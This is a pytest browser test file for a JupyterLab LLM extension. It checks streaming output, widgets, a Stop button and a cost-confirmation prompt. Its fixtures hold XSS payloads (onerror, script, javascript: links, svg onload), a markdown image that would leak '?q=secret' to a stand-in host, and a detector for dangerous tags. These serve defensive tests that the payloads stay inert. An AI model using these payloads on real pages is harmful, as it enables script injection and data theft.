"""The notebook layer in a real browser: JupyterLab in headless Chromium.

One JupyterLab server and one page for the module (a notebook with the cells
below); tests run in file order. Proves what kernel-level tests cannot: the
streamed text really repaints the cell, the compare dashboard and the batch
progress widgets render, a click on Stop stops a real llama.cpp server, and
model output cannot run script in the page. Screenshots go to
``tests/artifacts/browser/`` (git-ignored).

Chromium comes from Debian (``/usr/bin/chromium``) and is driven by the
``playwright`` package with ``executable_path``; no browser is downloaded.
"""

from __future__ import annotations

import itertools
import os
import time
from collections.abc import Iterator
from pathlib import Path

import nbformat
import pytest

from tests.support.browser import (
    CHROMIUM,
    CHROMIUM_ARGS,
    LabNotebook,
    browser_unavailable,
    start_lab,
)
from tests.support.llama_server import (
    MODELS_DIR,
    llama_server_unavailable,
    start_llama_server,
    stop_llama_server,
)

pytestmark = [pytest.mark.browser, pytest.mark.slow]

ROOT = Path(__file__).resolve().parents[1]
ARTIFACTS = ROOT / "tests" / "artifacts" / "browser"
MODEL = MODELS_DIR / "stories260K.gguf"
KEY_VARIABLES = (
    "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GROQ_API_KEY", "MISTRAL_API_KEY",
    "DEEPSEEK_API_KEY", "OPENROUTER_API_KEY", "TOGETHER_API_KEY", "OPENAI_COMPATIBLE_API_KEY",
    "NOTEBOOK_LLM_MODEL",
)

# Test-only: offline streams get a delay between words so streaming can be watched.
SETUP = """
%load_ext notebook_llm
import notebook_llm as nl
_client = nl.default_client()
_plain_astream = _client.astream
def _slow_offline(request, model=None, **options):
    if str(model or "").startswith("offline:"):
        options.setdefault("chunk_delay", 0.02)
    return _plain_astream(request, model, **options)
_client.astream = _slow_offline
words = " ".join(f"w{i}" for i in range(150))
"""
XSS_HTML = (
    '%%llm -m offline:echo -f html\n'
    '<strong>bold</strong> <img src=x onerror="window.__xss=1"> <script>window.__xss=2</script> '
    '<a id="jslink" href="javascript:window.__xss=3">html link</a> '
    '<svg onload="window.__xss=4"></svg> <iframe src="javascript:window.__xss=5"></iframe>'
    '<img src="http://images.invalid/html.png"> <meta http-equiv="refresh" content="0;url=x">'
    '<div style="color:rgb(200, 0, 0)">styled</div>'
)
XSS_MARKDOWN = (
    '%%llm -m offline:echo\n'
    '**bold** [markdown link](javascript:window.__xss=6) <img src=x onerror="window.__xss=7"> '
    '<script>window.__xss=8</script> <a href="javascript:window.__xss=9">raw link</a>'
)
# A remote image must not load (the browser must not even ask for it), through
# the streamed HTML and through a Completion's text/markdown, which also shows
# a tool call whose name tries to leave its code span.
REMOTE_IMAGE = "%%llm -m offline:echo\n**bold** ![leak](http://images.invalid/stream.png?q=secret)"
TOOL_CALL = (
    "from notebook_llm.core.types import Completion, ToolCall\n"
    "Completion(text='![leak](http://images.invalid/md.png) ![r][r]'\n"
    "                '\\n\\n[r]: //images.invalid/r.png',\n"
    "           model='offline:echo', tool_calls=[ToolCall(\n"
    "               'c1', 'f` <img src=x onerror=\"window.__xss=10\"> `',\n"
    "               {'a': '</textarea><svg onload=window.__xss=11>'})])"
)
# A bill for a small call: the threshold lowered for this one cell.
BILL = """get_ipython().run_line_magic("llm_config", "confirm_tokens 10")
try:
    get_ipython().run_cell_magic("llm", "-m offline:echo", "{prompt}")
finally:
    get_ipython().run_line_magic("llm_config", "confirm_tokens none")"""
REQUESTED: list[str] = []
"""Every URL the page asked for."""
CELLS = {
    "setup": SETUP,
    "stream": "%%llm -m offline:echo\n{words}",
    "dashboard": "%%llm -m offline:echo,offline:story --max-tokens 40\nA lighthouse by the sea",
    "batch": ('result = nl.batch([f"row {i}" for i in range(40)], "offline:echo", rpm=1200)\n'
              "result"),
    "stop": "%%llm -m llamacpp:stories260k --max-tokens 4000\nOnce upon a time",
    "after": "%%llm -m llamacpp:stories260k --max-tokens 5\nOnce",
    "xss_html": XSS_HTML,
    "xss_markdown": XSS_MARKDOWN,
    "remote_image": REMOTE_IMAGE,
    "tool_call": TOOL_CALL,
    "bill_cancel": BILL.format(prompt="Cancel me {words}"),
    "bill_send": BILL.format(prompt="Send me {words}"),
}
INDEX = {name: i for i, name in enumerate(CELLS)}
# -f html shows the page in an <iframe sandbox=""> (no scripts, a CSP against
# fetches): that frame is allowed, and its content is checked on its own.
DANGEROUS = """el => [...el.querySelectorAll('*')].filter(node =>
    ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'META'].includes(node.tagName)
       && !(node.tagName === 'IFRAME' && node.getAttribute('sandbox') === '')
    || [...node.attributes].some(a => a.name.toLowerCase().startsWith('on')
                                   || /^\\s*javascript:/i.test(a.value))
).map(node => node.outerHTML)"""


@pytest.fixture(scope="module")
def llama_base_url() -> Iterator[str | None]:
    """A real llama.cpp server with stories260K (None when it cannot run here)."""
    if llama_server_unavailable(MODEL):
        yield None
        return
    # n_ctx 4096: room for a stream of many seconds.
    process, base_url = start_llama_server(MODEL, "stories260k", extra_args=("--n_ctx", "4096"))
    try:
        base_url_pid[base_url] = process.pid
        yield base_url
    finally:
        stop_llama_server(process)


base_url_pid: dict[str, int] = {}


@pytest.fixture(scope="module")
def notebook(tmp_path_factory: pytest.TempPathFactory,
             llama_base_url: str | None) -> Iterator[LabNotebook]:
    reason = browser_unavailable()
    if reason:
        pytest.skip(reason)
    from playwright.sync_api import sync_playwright

    root = tmp_path_factory.mktemp("lab")
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                 "language": "python"}
    nb.cells = [nbformat.v4.new_code_cell(source) for source in CELLS.values()]
    nbformat.write(nb, root / "browser.ipynb")
    env = {k: v for k, v in os.environ.items() if k not in KEY_VARIABLES}
    env["NOTEBOOK_LLM_DB"] = str(root / "notebook_llm.db")
    env["NOTEBOOK_LLM_NO_PROMPT"] = "1"
    env["PYDEVD_DISABLE_FILE_VALIDATION"] = "1"
    if llama_base_url:
        env["LLAMACPP_BASE_URL"] = llama_base_url
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    lab = start_lab(root, env)
    try:
        with sync_playwright() as playwright:
            context = playwright.chromium.launch_persistent_context(
                str(tmp_path_factory.mktemp("chromium-profile")),
                executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS,
                viewport={"width": 1280, "height": 900},
            )
            try:
                page = context.pages[0] if context.pages else context.new_page()
                page.on("request", lambda request: REQUESTED.append(request.url))
                page.goto(lab.notebook_url("browser.ipynb"), timeout=60_000)
                driver = LabNotebook(page)
                driver.wait_ready()
                driver.run(INDEX["setup"])
                driver.wait_done(INDEX["setup"])
                assert "Error" not in driver.text(INDEX["setup"])
                yield driver
            finally:
                context.close()
    finally:
        lab.stop()


def shot(notebook: LabNotebook, name: str, cell: str | None = None) -> None:
    target = notebook.cell(INDEX[cell]) if cell else notebook.page
    target.screenshot(path=str(ARTIFACTS / f"{name}.png"))


def test_stream_appears_progressively(notebook: LabNotebook) -> None:
    index = INDEX["stream"]
    notebook.run(index)
    states: list[str] = []
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        text = notebook.output(index).inner_text() if notebook.output(index).count() else ""
        if text and (not states or states[-1] != text):
            states.append(text)
        if len(states) == 4:
            shot(notebook, "stream-in-progress", "stream")
        if "offline:echo" in text and "w149" in text:  # the footer: finished
            break
        time.sleep(0.05)
    partial = [s for s in states if "w0" in s and "w149" not in s]
    assert len(partial) >= 3, states[:5]  # several intermediate states were painted
    assert all(len(a) <= len(b) for a, b in itertools.pairwise(partial))
    final = notebook.text(index)
    assert "w149" in final and "offline:echo" in final and "150 out" in final
    assert notebook.output(index).locator("button:has-text('Stop')").count() == 0
    shot(notebook, "stream-finished", "stream")


def test_compare_dashboard_has_a_column_per_model(notebook: LabNotebook) -> None:
    index = INDEX["dashboard"]
    notebook.run(index)
    notebook.wait_done(index, timeout=60)
    output = notebook.output(index)
    text = output.inner_text()
    if "UnknownProviderError" in text or "ModelNotFoundError" in text or "Unknown" in text:
        pytest.skip(f"the compare dashboard (%%llm -m a,b) is not in this build: {text[:200]}")
    shot(notebook, "compare-dashboard", "dashboard")
    assert "Error displaying widget" not in text
    assert "offline:echo" in text and "offline:story" in text
    assert "A lighthouse by the sea" in text  # echo's column
    assert "Once" in text  # story's column
    # One column per model: the two models' headers sit side by side.
    echo = output.get_by_text("offline:echo", exact=False).first.bounding_box()
    story = output.get_by_text("offline:story", exact=False).first.bounding_box()
    assert echo and story and abs(echo["y"] - story["y"]) < 40 and echo["x"] != story["x"]


def test_batch_progress_widget_reaches_100_percent(notebook: LabNotebook) -> None:
    index = INDEX["batch"]
    notebook.run(index)
    notebook.wait_done(index, timeout=60)
    output = notebook.output(index)
    shot(notebook, "batch-progress", "batch")
    text = output.inner_text()
    # The bar widget gave way to its static form (a <progress> element) at the end.
    assert output.locator("progress").count() == 1, output.inner_html()[:3000]
    assert "Error displaying widget" not in text
    assert "40/40" in text and "done" in text
    bar = output.locator("progress").first
    assert bar.get_attribute("value") == bar.get_attribute("max") == "40"
    assert "done 40/40" in " ".join(text.split())  # the BatchResult shown after the bar


def _cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def test_stop_button_stops_a_real_server(notebook: LabNotebook,
                                         llama_base_url: str | None) -> None:
    if not llama_base_url:
        pytest.skip(llama_server_unavailable(MODEL) or "no llama.cpp server")
    pid = base_url_pid[llama_base_url]
    index = INDEX["stop"]
    notebook.run(index)
    output = notebook.output(index)
    stop = output.locator("button:has-text('Stop')")
    stop.wait_for(timeout=30_000)
    deadline = time.monotonic() + 30
    while len(output.inner_text()) < 200 and time.monotonic() < deadline:
        time.sleep(0.05)
    busy_before = _cpu_seconds(pid)
    time.sleep(0.5)
    assert _cpu_seconds(pid) - busy_before > 0.1, "the server was not generating"
    shot(notebook, "stop-before-click", "stop")
    stop.click()
    clicked = time.monotonic()
    notebook.wait_done(index, timeout=15)
    assert time.monotonic() - clicked < 5
    text = notebook.text(index)
    assert "stopped" in text and "4000 out" not in text
    shot(notebook, "stop-after-click", "stop")
    # The server stops generating: its CPU time stops growing.
    time.sleep(1.0)
    settled = _cpu_seconds(pid)
    time.sleep(2.0)
    assert _cpu_seconds(pid) - settled < 0.2, "the server kept generating after Stop"
    # And the next request is answered at once.
    after = INDEX["after"]
    started = time.monotonic()
    notebook.run(after)
    notebook.wait_done(after, timeout=30)
    assert time.monotonic() - started < 5
    assert "llamacpp:stories260k" in notebook.text(after)


@pytest.mark.parametrize("cell", ["xss_html", "xss_markdown"])
def test_model_output_cannot_run_script(notebook: LabNotebook, cell: str) -> None:
    index = INDEX[cell]
    page = notebook.page
    notebook.run(index)
    notebook.wait_done(index, timeout=30)
    output = notebook.output(index)
    html = output.inner_html()
    dangerous = output.evaluate(DANGEROUS)
    assert dangerous == [], dangerous
    if cell == "xss_html":
        # Ordinary HTML renders as written, styles included, inside the sandbox.
        assert output.locator("iframe").count() == 1, html
        assert output.locator("iframe").get_attribute("sandbox") == ""
        page_in_frame = output.frame_locator("iframe")
        assert page_in_frame.locator("strong").count() == 1
        styled = page_in_frame.locator("div", has_text="styled")
        assert styled.evaluate("el => getComputedStyle(el).color") == "rgb(200, 0, 0)"
        assert page_in_frame.locator("body").evaluate(DANGEROUS) == []
        assert [url for url in REQUESTED if "html.png" in url] == []
    else:
        assert output.locator("b, strong").count() >= 1, html  # harmless HTML still renders
    for link in output.locator("a").all():
        href = link.get_attribute("href") or ""
        assert not href.strip().lower().startswith("javascript"), href
        link.click(modifiers=["Alt"], timeout=2000, no_wait_after=True)  # Alt: no navigation
    time.sleep(0.5)
    assert page.evaluate("window.__xss") is None
    shot(notebook, f"{cell}", cell)


@pytest.mark.parametrize("cell", ["remote_image", "tool_call"])
def test_model_output_loads_no_remote_image(notebook: LabNotebook, cell: str) -> None:
    index = INDEX[cell]
    notebook.run(index)
    notebook.wait_done(index, timeout=30)
    output = notebook.output(index)
    text = output.inner_text()
    assert "image: leak" in text, text  # a link naming the image instead
    if cell == "tool_call":
        assert 'onerror="window.__xss=10"' in text  # the tool call shown as text
    assert output.evaluate(DANGEROUS) == []
    assert output.evaluate("el => [...el.querySelectorAll('img, [srcset]')].length") == 0
    time.sleep(0.5)
    assert notebook.page.evaluate("window.__xss") is None
    assert [url for url in REQUESTED if "images.invalid" in url] == []
    shot(notebook, cell, cell)


@pytest.mark.parametrize(("cell", "button"), [("bill_cancel", "Cancel"), ("bill_send", "Send")])
def test_the_bill_waits_for_send_or_cancel(notebook: LabNotebook, cell: str, button: str) -> None:
    index = INDEX[cell]
    notebook.run(index)
    output = notebook.output(index)
    output.locator(f"button:has-text('{button}')").wait_for(timeout=30_000)
    text = output.inner_text()
    assert "This call sends about" in text and "offline:echo: free" in text
    shot(notebook, cell, cell)
    time.sleep(4.5)  # past the 3 s a headless run waits: a drawn view means someone can click
    assert notebook.running(index)
    choice = output.locator(f"button:has-text('{button}')")
    choice.click()
    try:
        notebook.wait_done(index, timeout=30)
    except Exception:  # a click the loaded headless browser dropped
        if choice.count() == 0:
            raise  # the click arrived: the cell really hangs
        choice.click()
        notebook.wait_done(index, timeout=30)
    text = notebook.text(index)
    assert output.locator("button").count() == 0  # the buttons gave way to text
    if button == "Cancel":
        assert "cancelled: nothing was sent" in text and "Cancel me w0" not in text
    else:
        assert "sent" in text.splitlines() and "Send me w0" in text and "w149" in text


def test_screenshot_of_the_whole_notebook(notebook: LabNotebook) -> None:
    notebook.page.screenshot(path=str(ARTIFACTS / "notebook.png"), full_page=True)
    assert (ARTIFACTS / "notebook.png").stat().st_size > 10_000
    assert notebook.page.evaluate("window.__xss") is None
